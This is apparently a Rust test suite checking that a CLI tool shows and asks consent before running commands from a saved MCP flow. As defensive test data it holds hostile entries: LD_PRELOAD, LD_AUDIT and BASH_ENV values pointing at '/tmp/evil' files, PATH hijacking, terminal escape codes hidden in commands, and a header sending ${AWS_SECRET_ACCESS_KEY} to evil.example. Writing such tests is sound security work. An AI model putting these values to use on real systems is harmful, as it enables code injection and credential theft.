//! Commands that a saved flow names: none runs unless the user says so.

use std::path::Path;

use serde_json::{Value, json};

use crate::support::{Folder, ROUNDTRIP, Served, roundtrip};

/// Saves a call of the demo, and writes another server into the file. Returns the file.
fn saved(folder: &Folder, server: Value) -> String {
    let served = Served::start(&[]);
    let flow = folder.path("flow.json");
    roundtrip(&["call", &served.url, "greet", "--save", &flow]).exits(10);
    let mut saved: Value = serde_json::from_str(&std::fs::read_to_string(&flow).unwrap()).unwrap();
    saved["server"] = server;
    folder.file("flow.json", &saved.to_string())
}

/// A command that leaves a trace, and is no server.
fn touching(folder: &Folder) -> (String, Value) {
    let trace = folder.path("trace");
    (trace.clone(), json!(["sh", "-c", format!("touch '{trace}' #\u{1b}[2J")]))
}

#[test]
fn a_saved_command_is_given_again() {
    let folder = Folder::new("commands");
    let (trace, command) = touching(&folder);
    let flow = saved(&folder, json!({ "command": command }));
    let refused = roundtrip(&["resume", &flow, "--yes"]).exits(2);
    assert!(refused.err.contains("-- sh -c '") && refused.err.contains("touch"), "{refused:?}");
    assert!(refused.err.contains(r"\u{1b}[2J") && !refused.err.contains('\u{1b}'), "{refused:?}");
    assert!(!Path::new(&trace).exists(), "nothing has run");
    // What is given is what runs, and it is said that it is another command.
    let other = roundtrip(&["resume", &flow, "--yes", "--", "sh", "-c", "exit 1"]);
    assert!(other.code != 0 && other.err.contains("another command than"), "{other:?}");
    assert!(!Path::new(&trace).exists(), "the saved command has not run");
}

/// A call of a command that is saved, and resumed by that command.
#[test]
fn a_call_of_a_command_is_resumed() {
    let folder = Folder::new("resumed-command");
    let (keys, flow) = (folder.path("keys.txt"), folder.path("flow.json"));
    roundtrip(&["keys", "new", "--output", &keys]).exits(0);
    let server = ["--", ROUNDTRIP, "serve", "--stdio", "--keys", &keys];
    let stopped = roundtrip(&[&["call", "greet", "--save", &flow], &server[..]].concat()).exits(10);
    let words = format!("roundtrip resume {flow} {}", server.join(" "));
    assert!(stopped.err.contains(&words), "{stopped:?}");
    let name = folder.file("name.json", r#"{ "name": { "name": "Ada" } }"#);
    roundtrip(&["resume", &flow, "--answers", &name]).exits(2);
    let done = roundtrip(&[&["resume", &flow, "--answers", &name], &server[..]].concat()).exits(0);
    assert_eq!((done.out.as_str(), done.err.as_str()), ("Hello, Ada!\n", ""));
}

/// A name is looked up in the file that is given now, and in no other.
#[test]
fn a_saved_file_of_servers_is_given_again() {
    let folder = Folder::new("names");
    let (keys, flow) = (folder.path("keys.txt"), folder.path("flow.json"));
    roundtrip(&["keys", "new", "--output", &keys]).exits(0);
    let entry = json!({ "command": ROUNDTRIP, "args": ["serve", "--stdio", "--keys", keys] });
    let config = folder.file("mcp.json", &json!({ "mcpServers": { "demo": entry } }).to_string());
    roundtrip(&["call", "--config", &config, "demo", "greet", "--save", &flow]).exits(10);
    let name = folder.file("name.json", r#"{ "name": { "name": "Ada" } }"#);
    let refused = roundtrip(&["resume", &flow, "--answers", &name]).exits(2);
    assert!(refused.err.contains(&format!("--config {config}")), "{refused:?}");
    let done = roundtrip(&["resume", &flow, "--answers", &name, "--config", &config]).exits(0);
    assert_eq!(done.out, "Hello, Ada!\n");
}

/// A URL runs nothing, and takes no command.
#[test]
fn a_saved_url_takes_no_command() {
    let (served, folder) = (Served::start(&[]), Folder::new("urls"));
    let flow = folder.path("flow.json");
    roundtrip(&["call", &served.url, "greet", "--save", &flow]).exits(10);
    let refused = roundtrip(&["resume", &flow, "--", "sh", "-c", "exit 1"]).exits(2);
    assert!(refused.err.contains("takes no command"), "{refused:?}");
    assert_eq!(roundtrip(&["resume", &flow, "--decline-all"]).exits(4).err, "");
}

/// Writes a program that leaves a trace, into a folder below another. Returns that folder, and the trace.
#[cfg(unix)]
fn program(folder: &Folder, name: &str) -> (String, String) {
    use std::os::unix::fs::PermissionsExt as _;
    let (bin, trace) = (folder.path("bin"), folder.path("trace"));
    std::fs::create_dir_all(&bin).unwrap();
    let program = folder.file(&format!("bin/{name}"), &format!("#!/bin/sh\n: > '{trace}'\n"));
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    (bin, trace)
}

/// The `PATH` of an entry is for the program, and does not choose it: `date` is the user's own.
#[cfg(unix)]
#[test]
fn a_program_is_found_by_the_users_own_path() {
    let folder = Folder::new("own-path");
    for name in ["true", "roundtrip-not-there"] {
        let (bin, trace) = program(&folder, name);
        folder.file("server.env", &format!("PATH={bin}\n"));
        for entry in [
            json!({ "command": name, "env": { "PATH": bin } }),
            json!({ "command": name, "envFile": folder.path("server.env") }),
        ] {
            let config = folder.file("mcp.json", &json!({ "mcpServers": { "demo": entry } }).to_string());
            let ran = roundtrip(&["list", "--config", &config, "demo"]).exits(3);
            assert!(!Path::new(&trace).exists(), "the program of the file has run: {ran:?}");
            assert!(name == "true" || ran.err.contains("is not on your PATH"), "{ran:?}");
        }
    }
    // A relative entry of the user's own path is relative to the user's folder, and not to that of the entry.
    let (bin, trace) = program(&folder, "roundtrip-not-there");
    let entry = json!({ "command": "roundtrip-not-there", "cwd": bin });
    let config = folder.file("mcp.json", &json!({ "mcpServers": { "demo": entry } }).to_string());
    let mut list = crate::support::command(&["list", "--config", &config, "demo"]);
    let ran = crate::support::ran(list.env("PATH", ".").current_dir("/").output().unwrap());
    assert!(ran.code != 0 && !Path::new(&trace).exists(), "{ran:?}");
}

#[cfg(unix)]
mod terminal {
    use super::*;
    use crate::support::terminal::Terminal;

    #[track_caller]
    fn ends(terminal: Terminal, code: i32) {
        let (status, text) = terminal.ends();
        assert_eq!(status.code(), Some(code), "{text}");
    }

    /// E5: the command is shown as it is, and runs after consent.
    #[test]
    fn a_saved_command_is_consented_to() {
        let folder = Folder::new("consent");
        let (trace, command) = touching(&folder);
        let flow = saved(&folder, json!({ "command": command }));
        for (keys, code) in [("Decline\r", 4), ("\u{1b}", 4), ("\u{3}", 130)] {
            let mut terminal = Terminal::start(&["resume", &flow]);
            terminal.shows("touch");
            terminal.shows(r"\u{1b}[2J");
            terminal.answers("Run it?", keys);
            ends(terminal, code);
            assert!(!Path::new(&trace).exists(), "nothing has run");
        }
        let mut terminal = Terminal::start(&["resume", &flow, "--decline-all"]);
        terminal.answers("Run it?", "Run\r");
        ends(terminal, 3);
        assert!(Path::new(&trace).exists(), "it has run");
    }

    /// The entry of a file is shown too, before any of its variables is filled in.
    #[test]
    fn a_saved_name_is_consented_to() {
        let folder = Folder::new("consent-names");
        let trace = folder.path("trace");
        let entry = json!({ "command": "touch", "args": [&trace, "${HOME}"] });
        let config = folder.file("mcp.json", &json!({ "mcpServers": { "demo": entry } }).to_string());
        let flow = saved(&folder, json!({ "named": { "config": config, "name": "demo" } }));
        let mut terminal = Terminal::of_width(400, &["resume", &flow]);
        terminal.shows(&config);
        terminal.shows(&format!("touch {trace} '${{HOME}}'"));
        terminal.answers("Run it?", "Decline\r");
        ends(terminal, 4);
        assert!(!Path::new(&trace).exists(), "nothing has run");
    }

    /// Saves a flow that names an entry of a file, and returns it with that file.
    fn named(folder: &Folder, entry: &Value) -> (String, String) {
        let config = folder.file("mcp.json", &json!({ "mcpServers": { "demo": entry } }).to_string());
        (saved(folder, json!({ "named": { "config": config, "name": "demo" } })), config)
    }

    /// E5: variables, folder and file of variables decide on what runs, and are shown as the file has them.
    #[test]
    fn all_that_a_saved_entry_sets_is_shown() {
        let folder = Folder::new("consent-env");
        let entry = json!({
            "command": "date", "args": ["+%Y"], "cwd": "/tmp/evil", "envFile": "evil.env",
            "env": { "PATH": "/tmp/bin:${PATH}", "LD_PRELOAD": "/tmp/evil\u{1b}[2J.so", "PORT": 80 },
        });
        let (flow, _) = named(&folder, &entry);
        let mut terminal = Terminal::of_width(400, &["resume", &flow]);
        terminal.shows("date +%Y");
        for part in [r"LD_PRELOAD='/tmp/evil\u{1b}[2J.so'", "PATH='/tmp/bin:${PATH}'", "PORT=80"] {
            terminal.shows(part);
        }
        terminal.shows("evil.env, which cannot be used");
        terminal.shows("in the folder /tmp/evil");
        terminal.answers("Run it?", "Decline\r");
        ends(terminal, 4);
        folder.file("evil.env", "# of a stranger\nLD_AUDIT='/tmp/evil\u{1b}[2J.so'\nBASH_ENV=/tmp/evil.sh\n");
        let mut terminal = Terminal::of_width(400, &["resume", &flow]);
        terminal.shows("of the file evil.env:");
        terminal.shows(r"LD_AUDIT='/tmp/evil\u{1b}[2J.so'");
        terminal.shows("BASH_ENV=/tmp/evil.sh");
        terminal.answers("Run it?", "Decline\r");
        ends(terminal, 4);
    }

    /// A path that the user is asked for is not known yet when the command is shown, which is said.
    #[test]
    fn a_file_of_variables_that_is_asked_for_is_said_to_be() {
        let folder = Folder::new("consent-asked");
        let entry = json!({ "command": "true", "envFile": "${input:file}" });
        let (flow, _) = named(&folder, &entry);
        let mut terminal = Terminal::of_width(400, &["resume", &flow]);
        terminal.shows("of the file '${input:file}', whose path you are asked for first");
        terminal.answers("Run it?", "Decline\r");
        ends(terminal, 4);
    }

    /// A file of variables that changes at the prompt is not read again.
    #[test]
    fn variables_that_were_shown_are_set() {
        let folder = Folder::new("consent-variables");
        let (shown, other) = (folder.path("shown"), folder.path("other"));
        let variables = |trace: &str| folder.file("server.env", &format!("TRACE={trace}\n"));
        variables(&shown);
        let entry = json!({ "command": "sh", "args": ["-c", ": > \"$TRACE\""], "envFile": "server.env" });
        let (flow, _) = named(&folder, &entry);
        let mut terminal = Terminal::of_width(400, &["resume", &flow, "--decline-all"]);
        terminal.shows(&format!("TRACE={shown}"));
        terminal.shows("Run it?");
        variables(&other);
        terminal.press("Run\r");
        ends(terminal, 3);
        assert!(Path::new(&shown).exists() && !Path::new(&other).exists());
    }

    /// E5: arguments of any length do not push the command out of sight: it is shown again, and a long one is cut off there.
    #[test]
    fn what_runs_is_shown_above_the_question() {
        let folder = Folder::new("consent-long");
        for (command, again) in [("true".to_owned(), "true\r\n"), ("x".repeat(5000), "xx..\r\n")] {
            let flow = saved(&folder, json!({ "command": [command] }));
            let mut content: Value = serde_json::from_str(&std::fs::read_to_string(&flow).unwrap()).unwrap();
            content["pending"]["flow"]["params"]["arguments"] = json!({ "long": "a ".repeat(20_000) });
            folder.file("flow.json", &content.to_string());
            let mut terminal = Terminal::start(&["resume", &flow]);
            terminal.shows("a a a");
            terminal.shows("it would run: ");
            terminal.shows(again);
            terminal.answers("Run it?", "Decline\r");
            let (status, text) = terminal.ends();
            let rows = text.split("it would run: ").nth(1).unwrap().split("Run it?").next().unwrap();
            assert!(rows.lines().count() < 12, "{rows}");
            assert_eq!(status.code(), Some(4), "{text}");
        }
    }

    /// E5: headers are sent, and may have secrets of the user's environment.
    #[test]
    fn headers_of_a_saved_entry_are_shown() {
        let folder = Folder::new("consent-headers");
        let headers = json!({ "x-a": "${AWS_SECRET_ACCESS_KEY}", "x-b": "plain" });
        let (flow, _) = named(&folder, &json!({ "url": "https://evil.example/mcp", "headers": headers }));
        let mut terminal = Terminal::of_width(400, &["resume", &flow]);
        terminal.shows("https://evil.example/mcp");
        terminal.shows("x-a: ${AWS_SECRET_ACCESS_KEY}");
        terminal.shows("x-b: plain");
        terminal.answers("Send it?", "Decline\r");
        ends(terminal, 4);
    }

    /// A file that changes at the prompt is not read again.
    #[test]
    fn what_was_shown_is_what_runs() {
        let folder = Folder::new("consent-swapped");
        let (shown, other) = (folder.path("shown"), folder.path("other"));
        let (flow, config) = named(&folder, &json!({ "command": "touch", "args": [&shown] }));
        let mut terminal = Terminal::of_width(400, &["resume", &flow, "--decline-all"]);
        terminal.shows(&shown);
        terminal.shows("Run it?");
        let entry = json!({ "command": "touch", "args": [&other] });
        std::fs::write(&config, json!({ "mcpServers": { "demo": entry } }).to_string()).unwrap();
        terminal.press("Run\r");
        ends(terminal, 3);
        assert!(Path::new(&shown).exists() && !Path::new(&other).exists());
    }

    /// E5: what the call sends is a part of what is consented to.
    #[test]
    fn the_call_of_a_saved_command_is_shown() {
        let folder = Folder::new("consent-call");
        let flow = saved(&folder, json!({ "command": ["true"] }));
        let mut terminal = Terminal::of_width(400, &["resume", &flow]);
        terminal.shows("true");
        terminal.shows("tools/call");
        terminal.shows("greet");
        terminal.answers("Run it?", "Decline\r");
        ends(terminal, 4);
    }
}
